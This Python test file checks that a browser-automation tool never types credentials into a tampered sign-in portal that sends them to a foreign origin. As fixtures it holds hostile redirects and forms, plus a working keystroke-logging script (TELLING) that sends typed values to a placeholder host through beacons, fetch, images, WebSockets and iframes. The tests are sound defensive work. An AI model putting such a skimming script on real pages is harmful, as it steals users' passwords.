"""A portal that was tampered with leads to a stranger's copy of the sign-in, or tells a stranger what is typed."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from pydantic import SecretStr

from automation.browser.hold import Hold
from automation.browser.launcher import CONTEXT_OPTIONS, launched
from automation.browser.requests import PortalRequests
from automation.browser.wire import Wire
from automation.domain import KvkNumber, Organisation
from automation.domain.addresses import Allowed, PortalAddress
from automation.errors import KetenError
from automation.inputs import profile as profiles
from automation.inputs.accounts import Account
from automation.mock_portal.server import MockPortal
from automation.proofs.evidence import Evidence
from automation.session.session import Identity, Session, Site
from pages.view import View
from tests.e2e.cases import grant, write_scenario
from tests.e2e.keten import apply
from tests.own_thread import in_own_thread
from tests.recording_server import Received, RecordingServer, answer, serving

USER, PASSWORD = "piet-de-beheerder", "Geheim-van-Piet-7"
TIMEOUT = 3000  # milliseconds that a screen may take to come
FIELDS = """<label>Gebruikersnaam <input name=u></label><label>Wachtwoord <input name=p type=password></label>"""
LISTENING = """<script>const tell = e => fetch('/keys', {method: 'POST', body: e.target.value});
    addEventListener('input', tell, true)</script>"""
TELLING = """<script>addEventListener('input', e => {
    const said = e.target.value
    navigator.sendBeacon('FOREIGN/beacon', said)
    fetch('FOREIGN/fetch', {method: 'POST', mode: 'no-cors', body: said}).catch(() => {})
    new Image().src = 'FOREIGN/picture?' + said
    const socket = new WebSocket('FOREIGN/socket?'.replace('http', 'ws') + said)
    document.body.append(Object.assign(document.createElement('iframe'), {src: 'FOREIGN/frame?' + said}))
}, true)</script>"""


def form(action: str = "/beheer", button: str = "<button>Inloggen</button>", more: str = "") -> str:
    return f"<meta charset=utf-8><form method=post action='{action}'>{FIELDS}{button}</form>{more}"


def redirect(to: str, status: int = 302) -> bytes:
    return answer(status=f"{status} Elsewhere", Location=to)


def refusal() -> bytes:
    return answer(form(more="<p role=alert>Gebruikersnaam of wachtwoord is onjuist.</p>"))


Portal = Callable[[Received, str], bytes]
"""What the portal answers, when the stranger's origin is this."""


def shows(page: str) -> Portal:
    """The sign-in looks like this, and always refuses."""
    return lambda received, foreign: (
        refusal() if received.method == "POST" else answer(page.replace("FOREIGN", foreign))
    )


def redirects_what_is_posted(status: int) -> Portal:
    return lambda received, foreign: (
        redirect(f"{foreign}/beheer", status) if received.method == "POST" else answer(form())
    )


def open_redirect(received: Received, foreign: str) -> bytes:
    return redirect(f"/goto?{foreign}" if received.target == "/beheer" else f"{foreign}/beheer")


PAGES: dict[str, Portal] = {
    "a redirect of the sign-in": lambda _, foreign: redirect(f"{foreign}/beheer"),
    "an open redirect": open_redirect,
    "a redirect of what is posted": redirects_what_is_posted(302),
    "a redirect that posts it again": redirects_what_is_posted(307),
    "another that does": redirects_what_is_posted(308),
    "a form to another port": shows(form("FOREIGN/beheer")),
    "a form to another host": lambda received, foreign: shows(form("FOREIGN/beheer"))(
        received, foreign.replace("127.0.0.1", "localhost")
    ),
    "a link": shows(form(button="<a role=button href='FOREIGN/beheer'>Inloggen</a>")),
    "a popup": shows(form(button="<button type=button onclick=\"window.open('FOREIGN/beheer')\">Inloggen</button>")),
    "a form in a popup": shows(form("FOREIGN/beheer").replace("<form", "<form target=_blank")),
}
"""A whole page goes to the stranger: the run ends, and names the address."""
PARTS: dict[str, tuple[Portal, int]] = {
    "a frame": (shows("<iframe src='FOREIGN/beheer' width=600 height=400></iframe>"), 6),
    "what a page sends on each keystroke": (shows(form(more=TELLING)), 5),
}
"""A part of a page does; and the exit code by which the run ends for another reason."""


@dataclass
class Visit:
    """What came of a sign-in, and what reached the stranger."""

    error: KetenError
    stranger: RecordingServer
    portal: RecordingServer

    @property
    def told(self) -> bool:
        """Whether the stranger knows a credential."""
        heard = [one.target.encode() + one.body for one in self.stranger.received]
        return any(secret.encode() in each for each in heard for secret in (USER, PASSWORD))


class Fresh:
    """Nobody signed in or was refused before, and no code is asked for."""

    is_there = False

    def __getattr__(self, _: str) -> Callable[..., None]:
        return lambda *_: None


@contextmanager
def visits(portals: dict[str, Portal], folder: Path, *, wire_open: bool, listed: bool) -> Iterator[dict[str, Visit]]:
    """Sign in at each; `wire_open`: the wire lets the strangers' origins through; `listed`: KETEN_ORIGINS has them."""
    profile = profiles.load(None)
    with ExitStack() as stack:
        strangers = {name: stack.enter_context(serving(lambda _: answer(form(more=LISTENING)))) for name in portals}

        def reply(name: str, received: Received) -> bytes:
            return portals[name](received, strangers[name].origin)

        servers = {name: stack.enter_context(serving(partial(reply, name))) for name in portals}
        known = [one.origin for one in servers.values()]
        foreign = [one.origin for one in strangers.values()]
        foreign += [origin.replace("127.0.0.1", "localhost") for origin in foreign]
        wire = stack.enter_context(Wire(known + (foreign if wire_open or listed else [])))
        browser = stack.enter_context(launched(None, headless=True, proxy=wire.proxy, say=print))
        done = {}
        for number, (name, server) in enumerate(servers.items()):
            context, address = browser.new_context(**CONTEXT_OPTIONS), f"{server.origin}/beheer"
            context.set_default_timeout(TIMEOUT)
            account = Account(username=USER, password=SecretStr(PASSWORD))
            fresh: Any = Fresh()
            identity = Identity(account, Organisation(KvkNumber("90000102"), "Voorbeeld"), fresh, fresh, fresh)
            session = Session(
                context,
                Hold(context, PortalRequests(address, profile.recording), 5, lambda *_: None),
                Site(PortalAddress(address), Allowed((server.origin,), tuple(foreign) if listed else ()), profile),
                identity,
                lambda _: None,
                Evidence.open(folder, f"run-{number}"),
            )
            with pytest.raises(KetenError) as raised:
                session.sign_in()
            context.close()
            done[name] = Visit(raised.value, strangers[name], server)
        yield done
        assert {one.port for one in wire.blocked} == (
            set() if wire_open or listed else {one.port for one in strangers.values()}
        )


@in_own_thread
def test_no_byte_reaches_a_stranger_and_a_page_that_goes_there_is_named(tmp_path: Path) -> None:
    portals = PAGES | {name: portal for name, (portal, _) in PARTS.items()}
    with visits(portals, tmp_path, wire_open=False, listed=False) as done:
        assert {name: visit.stranger.connections for name, visit in done.items()} == dict.fromkeys(done, 0)
        named = {
            name: (visit.error.exit_code, f":{visit.stranger.port}, which" in visit.error.message)
            for name, visit in done.items()
        }
        assert named == dict.fromkeys(PAGES, (6, True)) | {name: (code, False) for name, (_, code) in PARTS.items()}


@pytest.mark.slow
@in_own_thread
def test_with_a_wire_that_lets_everything_through_they_would_be_reached(tmp_path: Path) -> None:
    portals = PAGES | {name: portal for name, (portal, _) in PARTS.items()}
    with visits(portals, tmp_path, wire_open=True, listed=False) as done:
        assert {name: visit.stranger.connections > 0 for name, visit in done.items()} == dict.fromkeys(done, True)
        assert {name for name, visit in done.items() if visit.told} == {
            "a redirect that posts it again",
            "another that does",
            "a form to another port",
            "a form to another host",
            "a form in a popup",
            "what a page sends on each keystroke",
        }


COPIES = {name: PAGES[name] for name in ("a redirect of the sign-in", "an open redirect")} | {
    "a frame": PARTS["a frame"][0],
}


@pytest.mark.parametrize("checked", [True, pytest.param(False, marks=pytest.mark.slow)], ids=["checked", "unchecked"])
@in_own_thread
def test_where_pages_may_talk_to_no_credential_is_typed(checked: bool, tmp_path: Path) -> None:
    with pytest.MonkeyPatch.context() as patch:
        if not checked:
            patch.setattr(View, "check_credentials_may_go", lambda *_: None)
        with visits(COPIES, tmp_path, wire_open=True, listed=True) as done:
            assert all(visit.stranger.connections for visit in done.values())
            whole = {name: visit for name, visit in done.items() if name != "a frame"}
            assert {name: visit.told for name, visit in whole.items()} == dict.fromkeys(whole, not checked)
            assert not done["a frame"].told
            assert "is not there" in done["a frame"].error.message
            if checked:
                for visit in whole.values():
                    assert visit.error.exit_code == 6
                    assert f"is on {visit.stranger.origin}, where keten types no credentials" in visit.error.message


def apply_with_second_origin(tmp_path: Path, *names: str) -> tuple[Any, dict[str, Any], MockPortal]:
    with MockPortal(allow_used_codes=True) as portal:
        portal.faults([{"kind": "second_origin"}])
        settings = dict.fromkeys(names, portal.second_origin) | {"KETEN_TIMEOUT": "8"}
        return apply(portal, write_scenario(tmp_path, [grant()]), settings=settings), portal.ledger(), portal


@pytest.mark.slow
@pytest.mark.parametrize(
    ("names", "told"),
    [
        ((), "leads to {origin}, which is not an address that keten talks to"),
        (("KETEN_ORIGINS",), "sign_in.username is on {origin}, where keten types no credentials"),
    ],
    ids=["unknown", "for pages alone"],
)
def test_an_origin_that_signs_in_must_be_named_for_that(tmp_path: Path, names: tuple[str, ...], told: str) -> None:
    ran, ledger, portal = apply_with_second_origin(tmp_path, *names)

    assert (ran.exit_code, ran.statuses) == (6, ["skipped"])
    assert told.format(origin=portal.second_origin) in ran.told
    assert "KETEN_SIGN_IN_ORIGINS" in ran.told
    assert ledger == {"grants": [], "submissions": [], "sign_ins": 0}
    blocked = portal.second_origin.removeprefix("http://")
    assert [one.partition(" ")[0] for one in ran.document["blocked"]] == ([] if names else [blocked])


@pytest.mark.slow
def test_one_signs_in_on_another_origin_that_is_named_for_it(tmp_path: Path) -> None:
    ran, ledger, _ = apply_with_second_origin(tmp_path, "KETEN_SIGN_IN_ORIGINS")

    assert (ran.exit_code, ran.statuses) == (0, ["granted"]), ran.told
    assert [one["outcome"] for one in ledger["submissions"]] == ["granted"]
